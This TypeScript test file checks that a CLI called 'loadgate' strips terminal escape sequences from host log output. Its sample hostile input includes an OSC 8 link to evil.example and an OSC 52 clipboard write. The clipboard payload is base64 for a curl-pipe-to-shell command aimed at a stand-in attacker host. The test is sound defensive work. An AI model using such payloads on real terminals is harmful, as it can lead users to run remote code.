// The `loadgate` command as a terminal sees it: a real process, the loopback sshd as its target.
// Text from the host (a logs-command's lines and errors) must reach the terminal inert.

import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { startTarget, type DemoTarget } from '../../src/demo/target.ts';
import { SHORT_RUN } from '../support/run-bundle.ts';
import { startSshd, targetInputs, type Sshd } from '../support/sshd.ts';
import { GUNICORN_SIGKILL } from '../watch/host-watch-scenarios.ts';

const CLI = new URL('../../src/cli.ts', import.meta.url).pathname;
/** Where tsx resolves from. */
const ROOT = new URL('../..', import.meta.url).pathname;
const ESC = '\u001b';
const BEL = '\u0007';
/** Red text, an OSC 8 link and an OSC 52 clipboard write, as a colourful or hostile log prints them. */
const ESCAPES = `${ESC}[31mred${ESC}[0m ${ESC}]8;;https://evil.example/${BEL}click here${ESC}]8;;${BEL} ${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=${BEL}`;

async function runCli(flags: Record<string, string>): Promise<{ code: number | null; stdout: string; stderr: string }> {
  const args = Object.entries(flags).map(([name, value]) => `--${name}=${value}`);
  const child = spawn(
    process.execPath,
    ['--import', 'tsx', '-e', `import(${JSON.stringify(CLI)}).then((cli) => cli.main(process.argv.slice(1)))`, '--', ...args],
    {
      cwd: ROOT,
      stdio: ['ignore', 'pipe', 'pipe'],
    },
  );
  let stdout = '';
  let stderr = '';
  child.stdout.setEncoding('utf8').on('data', (chunk: string) => (stdout += chunk));
  child.stderr.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
  const timer = setTimeout(() => child.kill('SIGKILL'), 120_000);
  const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
  clearTimeout(timer);
  return { code, stdout, stderr };
}

describe('the loadgate command against the loopback sshd', { timeout: 180_000 }, () => {
  let sshd: Sshd;
  let target: DemoTarget;
  let dir: string;
  before(async () => {
    sshd = await startSshd();
    target = await startTarget({ delayMs: 5 });
    dir = await mkdtemp(join(tmpdir(), 'loadgate-cli-'));
  });
  after(async () => {
    await target.close();
    await sshd.stop();
    await rm(dir, { recursive: true, force: true });
  });

  test("escape sequences in a logs-command's lines and errors reach neither stdout nor stderr", async () => {
    const crash = join(dir, 'crash.log');
    const errors = join(dir, 'errors.log');
    const started = join(dir, 'started');
    await writeFile(crash, `${ESCAPES} ${GUNICORN_SIGKILL} ${ESCAPES}\n`);
    await writeFile(errors, `journal unreadable ${ESCAPES}\n`);
    // Before the first burst: only an error (a warning on stderr). After it: the crash (in the report).
    const logsCommand = `if [ -e ${started} ]; then cat ${crash}; fi; touch ${started}; cat ${errors} >&2; exit 3`;
    const run = await runCli({
      url: target.url,
      ...SHORT_RUN,
      ...targetInputs(sshd),
      'baseline-store': 'none',
      'logs-command': logsCommand,
      'report-path': join(dir, 'report.json'),
    });
    assert.match(run.stderr, /warning: host watch: logs-command exited with code 3: journal unreadable .*red/);
    assert.match(run.stdout, /Worker \(pid:812\) was sent SIGKILL! Perhaps out of memory\?/, run.stdout);
    assert.match(run.stdout, /click here/);
    for (const [stream, text] of Object.entries({ stdout: run.stdout, stderr: run.stderr })) {
      assert.ok(!text.includes(ESC), `ESC on ${stream}: ${JSON.stringify(text)}`);
      assert.ok(!text.includes(BEL), `BEL on ${stream}: ${JSON.stringify(text)}`);
    }
  });
});
